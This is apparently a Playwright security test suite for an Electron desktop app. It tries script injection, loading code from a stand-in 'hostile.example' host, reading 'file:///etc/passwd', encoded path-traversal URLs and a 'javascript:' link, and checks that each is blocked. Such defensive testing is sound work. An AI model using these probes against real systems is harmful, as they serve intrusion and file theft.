import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { existsSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs'
import { createServer, type AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join, relative } from 'node:path'
import { expect, type ElectronApplication, type Page } from '@playwright/test'
import { WebSocketServer } from 'ws'
import type {} from '../../renderer/data/app-api.ts'
import { ROOT } from '../../build/setup/paths.mjs'
import { commandLine, startLaptop, type Laptop } from './laptop.ts'
import { payloads } from './payloads.ts'
import { test } from './test.ts'

/** A host that exists nowhere: a request that gets through is seen in the network log, and reaches nobody. */
const EVIL = 'https://hostile.example'
let laptop: Laptop
let netLog = ''

test.describe.configure({ mode: 'default' })

test.beforeAll(async () => {
  netLog = join(mkdtempSync(join(tmpdir(), 'wederzijds-netlog-')), 'net.json')
  laptop = await startLaptop({ args: [`--log-net-log=${netLog}`] })
})

test('the real web preferences', async () => {
  const preferences = await laptop.app.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as {
      getLastWebPreferences: () => Record<string, unknown>
    }
    return contents.getLastWebPreferences()
  })
  expect(preferences).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    webviewTag: false,
    webSecurity: true,
  })
  for (const name of [
    'nodeIntegrationInWorker',
    'nodeIntegrationInSubFrames',
    'allowRunningInsecureContent',
  ]) {
    expect(preferences[name], name).not.toBe(true)
  }
  for (const name of ['experimentalFeatures', 'enableBlinkFeatures'])
    expect(preferences[name], name).toBeFalsy()
})

test('script in HTML does not run, however it comes in', async () => {
  const executed = await laptop.page.evaluate(async (all) => {
    const hits: string[] = []
    Object.assign(window, { hit: (name: string) => hits.push(name) })
    const place = document.createElement('div')
    document.body.append(place)
    const ways: ((html: string) => unknown)[] = [
      (html) => (place.innerHTML = html),
      (html) => (place.outerHTML = html),
      (html) => place.insertAdjacentHTML('beforeend', html),
      (html) => place.append(document.createRange().createContextualFragment(html)),
      (html) => place.append(...new DOMParser().parseFromString(html, 'text/html').body.childNodes),
    ]
    for (const html of all) {
      for (const way of ways) {
        try {
          way(html)
        } catch {
          // Refused by Trusted Types: as good as cleaned.
        }
      }
    }
    for (const element of document.querySelectorAll<HTMLElement>('a, button, details, input')) element.click()
    // An image that fails now fails after all those before it: by then each has had its turn.
    const last = new Image()
    const failed = new Promise((resolve) => last.addEventListener('error', resolve))
    last.src = '/nowhere.png'
    await failed
    place.remove()
    return hits
  }, payloads)
  expect(executed).toEqual([])
})

test('eval, new Function, string timers and injected scripts are refused', async () => {
  const refused = await laptop.page.evaluate(async (evil) => {
    // In a task of its own: what the test driver calls directly could be exempt from the policy.
    await new Promise((resolve) => setTimeout(resolve, 0))
    const attempts: Record<string, () => unknown> = {
      eval: () => (0, eval)('1'),
      Function: () => new Function('return 1')(),
      worker: () => new Worker(`${evil}/worker.js`),
      blobWorker: () => new Worker(URL.createObjectURL(new Blob(['1']))),
      importScript: () => {
        const script = document.createElement('script')
        script.src = `${evil}/script.js`
      },
      inlineScript: () => {
        const script = document.createElement('script')
        const hits: string[] = []
        Object.assign(window, { hit: (name: string) => hits.push(name) })
        script.text = 'window.hit("inline")'
        document.body.append(script)
        if (hits.length === 0) throw new Error('not run')
      },
    }
    return Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        attempt()
        return []
      } catch {
        return [name]
      }
    })
  }, EVIL)
  expect(refused).toEqual(['eval', 'Function', 'worker', 'blobWorker', 'importScript', 'inlineScript'])
})

test('nothing goes out: no request, no socket, no window, no navigation, no file', async () => {
  const { page } = laptop
  const before = page.url()
  const outcome = await page.evaluate(async (evil) => {
    const failed = (promise: Promise<unknown>) =>
      promise.then(
        () => false,
        () => true,
      )
    const closes = (address: string) =>
      new Promise((resolve) => {
        try {
          const socket = new WebSocket(address)
          socket.onerror = () => resolve(true)
          socket.onopen = () => resolve(false)
        } catch {
          resolve(true)
        }
      })
    const image = (address: string) =>
      new Promise((resolve) => {
        const element = new Image()
        element.onerror = () => resolve(true)
        element.onload = () => resolve(false)
        element.src = address
      })
    return {
      fetch: await failed(fetch(evil)),
      fetchLoopback: await failed(fetch('http://127.0.0.1:9/')),
      file: await failed(fetch('file:///etc/passwd')),
      imported: await failed(import(/* @vite-ignore */ `${evil}/module.js`)),
      socket: await closes('wss://hostile.example'),
      image: await image(`${evil}/pixel.png`),
      fileImage: await image('file:///etc/passwd'),
      opened: window.open(evil),
      openedFile: window.open('file:///etc/passwd'),
      openedSelf: window.open(location.href),
    }
  }, EVIL)
  expect(outcome).toEqual({
    fetch: true,
    fetchLoopback: true,
    file: true,
    imported: true,
    socket: true,
    image: true,
    fileImage: true,
    opened: null,
    openedFile: null,
    openedSelf: null,
  })

  for (const target of [EVIL, 'file:///etc/passwd', 'data:text/html,hallo', 'app://elsewhere/index.html']) {
    await page.evaluate((address) => {
      const link = document.createElement('a')
      link.href = address
      document.body.append(link)
      link.click()
      link.remove()
      location.href = address
    }, target)
    expect(await page.evaluate(() => location.href)).toBe(before)
  }
  expect(laptop.app.windows()).toHaveLength(1)
})

test('a server that the user did not agree to is never reached', async () => {
  const { app, page } = laptop
  const url = 'wss://sync.hostile.example'
  const questions = await answerQuestions(app, 1)
  const failed = await failedRequests(app)
  expect(await opens(page, url)).toBe(false)
  expect(await failed()).toEqual([{ url: `${url}/`, error: 'net::ERR_BLOCKED_BY_CLIENT' }])

  // Asked twice at once and once again: one question, and Annuleer is what Enter and Escape mean.
  const answers = await page.evaluate(async (address) => {
    const ask = () => window.app.servers.allow({ url: address })
    return [...(await Promise.all([ask(), ask()])), await ask()]
  }, url)
  for (const answer of answers) expect(answer).toEqual({ ok: false, reason: 'refused' })
  expect(await questions()).toMatchObject([
    {
      message: 'Deze uitnodiging leidt naar sync.hostile.example. Verbinden?',
      buttons: ['Verbind', 'Annuleer'],
      defaultId: 1,
      cancelId: 1,
    },
  ])
  expect(await opens(page, url)).toBe(false)
  expect(await page.evaluate(() => window.app.servers.allow({ url: 'ws://10.0.0.5:8787' }))).toEqual({
    ok: false,
    reason: 'insecure',
  })
})

test('a page cannot put a server in the profile', async () => {
  const written = await laptop.page.evaluate(() => {
    const id = crypto.randomUUID()
    const server = { url: 'wss://sync.hostile.example' }
    return window.app.profile.write({
      profile: {
        version: 1,
        person: { id, name: 'Anna', function: '' },
        device: { id, name: 'Laptop' },
        workspaces: [{ id, name: 'Voorbeeld', colour: 'blue', server }],
        activeWorkspace: id,
        language: 'nl',
        theme: 'system',
      },
    })
  })
  expect(written).toEqual({ ok: false, reason: 'unknown-server' })
  expect(existsSync(join(laptop.userData, 'profile.json'))).toBe(false)
})

test('loopback is reached without a question, another server once the user agrees', async () => {
  const server = new WebSocketServer({ host: '127.0.0.1', port: 0 })
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  // Its name leads to a door on this laptop that only counts who knocks.
  let knocks = 0
  const door = createServer((socket) => {
    knocks += 1
    socket.destroy()
  }).listen(0, '127.0.0.1')
  await once(door, 'listening')
  const url = `wss://sync.gemeente.example:${(door.address() as AddressInfo).port}`
  const other = await startLaptop({ args: ['--host-resolver-rules=MAP sync.gemeente.example 127.0.0.1'] })
  const questions = await answerQuestions(other.app, 0)
  const allow = (address: string) =>
    other.page.evaluate((target) => window.app.servers.allow({ url: target }), address)

  expect(await allow(`ws://127.0.0.1:${port}`)).toMatchObject({ ok: true })
  expect(await opens(other.page, `ws://127.0.0.1:${port}`)).toBe(true)
  expect(await questions()).toEqual([])

  expect(await opens(other.page, url)).toBe(false)
  expect(knocks).toBe(0)
  expect(await allow(url)).toMatchObject({ ok: true })
  expect(await questions()).toHaveLength(1)
  await opens(other.page, url)
  expect(knocks).toBeGreaterThan(0)
  await other.close()
  server.close()
  door.close()
})

test('a frame and a webview stay empty', async () => {
  const inner = await laptop.page.evaluate(async (evil) => {
    const frame = document.createElement('iframe')
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
    frame.src = evil
    document.body.append(frame)
    const own = document.createElement('iframe')
    document.body.append(own)
    document.body.append(document.createElement('webview'))
    await loaded
    const has = own.contentWindow !== null && 'app' in own.contentWindow
    frame.remove()
    own.remove()
    return has
  }, EVIL)
  expect(inner).toBe(false)
  expect(await laptop.app.evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(1)
})

test('addresses outside the window folder do not exist', async () => {
  const statuses = await laptop.page.evaluate(async () => {
    const paths = [
      '/../../package.json',
      '/../main/index.js',
      '/%2e%2e/main/index.js',
      '/..%2fmain%2findex.js',
      '/..%5cmain%5cindex.js',
      '/assets/..%2f..%2fmain%2findex.js',
      '//etc/passwd',
      '/%00',
      '/%',
      '/',
      '/assets',
    ]
    return Promise.all(paths.map(async (path) => [path, (await fetch(`app://wederzijds${path}`)).status]))
  })
  for (const [path, status] of statuses) expect(status, String(path)).toBe(404)
})

test('every permission is refused', async () => {
  const answers = await laptop.page.evaluate(async () => {
    const refused = (promise: Promise<unknown>) =>
      promise.then(
        () => false,
        () => true,
      )
    const place = new Promise((resolve) =>
      navigator.geolocation.getCurrentPosition(resolve, ({ code }) => resolve(code)),
    )
    return {
      place: await place,
      camera: await refused(navigator.mediaDevices.getUserMedia({ video: true })),
      screen: await refused(navigator.mediaDevices.getDisplayMedia({ video: true })),
      clipboard: await refused(navigator.clipboard.readText()),
      notifications: await Notification.requestPermission(),
    }
  })
  expect(answers).toEqual({ place: 1, camera: true, screen: true, clipboard: true, notifications: 'denied' })
})

test('the policy goes with every response, refusals too', async () => {
  const root = join(ROOT, 'out', 'renderer')
  const files = readdirSync(root, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => relative(root, join(entry.parentPath, entry.name)))
  const addresses = [...files, 'nowhere.js', '..%2fmain%2findex.js'].map((path) => `app://wederzijds/${path}`)
  const responses = await laptop.app.evaluate(
    ({ session }, all) =>
      Promise.all(
        all.map(async (address) => {
          const { status, headers } = await session.defaultSession.fetch(address)
          return { address, status, policy: headers.get('content-security-policy') ?? '' }
        }),
      ),
    [...addresses, 'app://elsewhere/index.html'],
  )
  expect(responses.filter(({ status }) => status === 200).length).toBeGreaterThan(1)
  expect(responses.filter(({ status }) => status !== 200).map(({ status }) => status)).toEqual([
    404, 404, 404,
  ])
  for (const { address, policy } of responses) {
    expect(policy, address).toContain("default-src 'none'; script-src 'self';")
    expect(policy, address).toContain("require-trusted-types-for 'script'; trusted-types default dompurify")
    expect(policy, address).not.toContain('unsafe')
  }
})

test('links outside the list are not opened', async () => {
  const answers = await laptop.page.evaluate(() =>
    Promise.all(
      [
        'https://hostile.example',
        'http://www.kvk.nl',
        'https://www.kvk.nl.hostile.example',
        'https://user@www.kvk.nl',
        'https://www.kvk.nl:8443',
        'file:///etc/passwd',
        'javascript:alert(1)',
        'geen adres',
      ].map((url) => window.app.shell.openExternal({ url })),
    ),
  )
  for (const answer of answers) expect(answer).toEqual({ ok: false, reason: 'not-allowed' })
})

test('a second start ends, and the first window comes forward', async () => {
  await laptop.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.hide())
  const { electron, args } = commandLine(laptop.userData)
  const second = spawn(electron, args, { stdio: 'ignore' })
  expect(await once(second, 'exit')).toEqual([0, null])
  const isVisible = () =>
    laptop.app.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows().map((window) => window.isVisible()),
    )
  await expect.poll(isVisible).toEqual([true])
})

test('in all this time no request left, and no dictionary came but our own', async () => {
  const languages = await laptop.app.evaluate(({ session }) =>
    session.defaultSession.getSpellCheckerLanguages(),
  )
  expect(languages).toEqual(['nl'])
  await laptop.close()
  expect(readdirSync(join(laptop.userData, 'Dictionaries'))).toEqual(['nl-NL-3-0.bdic'])
  const log = readFileSync(netLog, 'utf8')
  expect(log).toContain('"constants"')
  const addresses = [...log.matchAll(/"(?:url|host|hostname)":"([^"]+)"/g)].map(
    ([, address]) => address ?? '',
  )
  const outward = addresses.filter(
    (address) => !/^(app|blob|data|devtools|chrome|ws:\/\/127\.0\.0\.1)/.test(address),
  )
  expect(outward).toEqual([])
})

/** Whether a WebSocket to this address opens. */
function opens(page: Page, url: string): Promise<boolean> {
  return page.evaluate(
    (address) =>
      new Promise<boolean>((resolve) => {
        const socket = new WebSocket(address)
        socket.onerror = () => resolve(false)
        socket.onopen = () => {
          socket.close()
          resolve(true)
        }
      }),
    url,
  )
}

/** Presses this button in every question of the system from now on; answers what was asked. */
async function answerQuestions(app: ElectronApplication, button: number): Promise<() => Promise<unknown[]>> {
  await app.evaluate(({ dialog }, response) => {
    const asked: unknown[] = []
    Object.assign(dialog, {
      asked,
      showMessageBox: (_window: unknown, question: unknown) => {
        asked.push(question)
        return Promise.resolve({ response, checkboxChecked: false })
      },
    })
  }, button)
  return () => app.evaluate(({ dialog }) => (dialog as unknown as { asked: unknown[] }).asked)
}

/** Requests that failed since, as the browser reports them. */
async function failedRequests(app: ElectronApplication) {
  await app.evaluate(({ session }) => {
    const failed: { url: string; error: string }[] = []
    Object.assign(session.defaultSession, { failed })
    session.defaultSession.webRequest.onErrorOccurred(({ url, error }) => failed.push({ url, error }))
  })
  return () =>
    app.evaluate(
      ({ session }) =>
        (session.defaultSession as unknown as { failed: { url: string; error: string }[] }).failed,
    )
}
